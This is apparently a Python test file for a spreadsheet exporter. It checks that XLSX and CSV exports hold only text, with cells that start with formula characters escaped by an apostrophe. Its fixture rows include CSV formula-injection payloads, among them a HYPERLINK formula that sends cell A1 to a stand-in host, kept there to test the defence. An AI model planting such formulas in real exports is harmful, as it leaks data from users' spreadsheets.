# SPDX-License-Identifier: Apache-2.0
"""What a spreadsheet finds in an exported list is text and nothing else (TRUST.md D5-D7, I5)."""

import csv
import re
import zipfile
from xml.etree import ElementTree as ET

import pytest

from frontdesk.documents import spreadsheet
from frontdesk.documents.spreadsheet import write_sheet
from frontdesk.errors import Trouble

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HEADING = ("№", "Аты", "Телефон")
ROWS = [
    ('=HYPERLINK("http://x/?"&A1;"Иванов")', "Әбдіқалықов Ә. С.", "+77011234567"),
    ("010203456789", "@SUM(1)", "-1+1"),
    ("\tтаб", "\rвозврат", 'ТОО "Рога & Копыта" <ЖШС>'),
    ("12345678901234567890", "01/02/2024", "24:10"),
    ("", " пробелы по краям ", "две\nстроки"),
    ("ж" * 40_000, "_x000D_", "'апостроф"),
]


def sheets(file):
    """The rows of every sheet, and the whole XML of it."""
    found = []
    with zipfile.ZipFile(file) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ET.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(part.text or "" for part in item.iter(f"{MAIN}t")) for item in root]
        for name in sorted(name for name in book.namelist() if name.startswith("xl/worksheets/sheet")):
            text = book.read(name).decode()
            rows = ET.fromstring(text).iter(f"{MAIN}row")
            found.append(([[value(cell, shared) for cell in row] for row in rows], text))
    return found


def value(cell, shared):
    if cell.get("t") == "inlineStr":
        text = "".join(part.text or "" for part in cell.iter(f"{MAIN}t"))
    elif cell.get("t") == "s":
        text = shared[int(cell.find(f"{MAIN}v").text)]
    else:
        assert cell.find(f"{MAIN}v") is None, "a cell that is no text"
        return ""
    return re.sub("_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), text)


def test_every_cell_of_a_workbook_is_text(tmp_path):
    file = tmp_path / "list.xlsx"
    assert write_sheet(file, "xlsx", HEADING, ROWS) == len(ROWS)
    [(rows, text)] = sheets(file)
    assert "<f>" not in text
    assert "<f " not in text
    assert rows[0] == list(HEADING)
    cut = [tuple(cell[:32_767] for cell in row) for row in ROWS]
    padded = [row + [""] * (3 - len(row)) if row else row for row in rows[1:]]
    assert [tuple(row) for row in padded[:4]] == cut[:4]
    assert padded[4][-2:] == [" пробелы по краям ", "две\nстроки"]
    assert padded[5][0] == cut[5][0]
    assert padded[5][2] == "'апостроф"
    assert [path.name for path in tmp_path.iterdir()] == ["list.xlsx"]
    assert file.stat().st_mode & 0o777 == 0o600


def test_csv_is_text_too_and_says_which(tmp_path):
    file = tmp_path / "list.csv"
    assert write_sheet(file, "csv", HEADING, ROWS) == len(ROWS)
    assert file.read_bytes().startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream, delimiter=";"))
    assert rows[0] == list(HEADING)
    for row, wanted in zip(rows[1:], ROWS, strict=True):
        for cell, text in zip(row, wanted, strict=True):
            assert cell in {text, f"'{text}"}
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert rows[1][2] == "'+77011234567"
    assert rows[2][0] == "010203456789"


@pytest.mark.parametrize("form", ["xlsx", "csv"])
@pytest.mark.parametrize("count", [0, 1, 4, 5, 10])
def test_a_long_list_goes_on_before_the_last_row_of_a_sheet(tmp_path, monkeypatch, form, count):
    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 5)
    rows = [(str(n), "а", "б") for n in range(count)]
    assert write_sheet(tmp_path / f"list.{form}", form, HEADING, iter(rows)) == count
    if form == "xlsx":
        parts = [rows for rows, _ in sheets(tmp_path / "list.xlsx")]
    else:
        names = sorted(tmp_path.iterdir(), key=lambda path: (len(path.name), path.name))
        assert [path.name for path in names] == ["list.csv", "list-2.csv", "list-3.csv"][: max(1, -(-count // 4))]
        parts = [list(csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=";")) for path in names]
    assert all(part[0] == list(HEADING) and len(part) <= 5 for part in parts)
    assert [tuple(row) for part in parts for row in part[1:]] == rows


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_what_fails_leaves_the_file_that_was_there(tmp_path, form):
    file = tmp_path / f"list.{form}"
    file.write_text("before")

    def rows():
        yield ROWS[0]
        raise RuntimeError

    with pytest.raises(RuntimeError):
        write_sheet(file, form, HEADING, rows())
    assert [path.name for path in tmp_path.iterdir()] == [file.name]
    assert file.read_text() == "before"
    with pytest.raises(Trouble) as caught:
        write_sheet(tmp_path / "none" / file.name, form, HEADING, ROWS)
    assert caught.value.code in {"file_not_written", "file_no_access"}
    with pytest.raises(Trouble):
        write_sheet(tmp_path, form, HEADING, ROWS)
